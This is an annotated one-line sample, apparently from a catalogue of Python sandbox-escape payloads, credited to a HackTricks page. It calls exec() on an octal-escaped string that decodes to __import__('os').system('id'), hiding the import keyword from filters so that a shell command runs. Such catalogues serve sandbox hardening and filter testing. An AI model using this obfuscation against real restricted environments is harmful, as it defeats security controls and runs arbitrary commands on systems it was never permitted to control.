# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (Octal / Hex encoded exec)
# Family: builtins-route
# What: exec of an octal-escaped string: no 'import' text in the source
exec("\137\137\151\155\160\157\162\164\137\137\50\47\157\163\47\51\56\163\171\163\164\145\155\50\47\151\144\47\51")
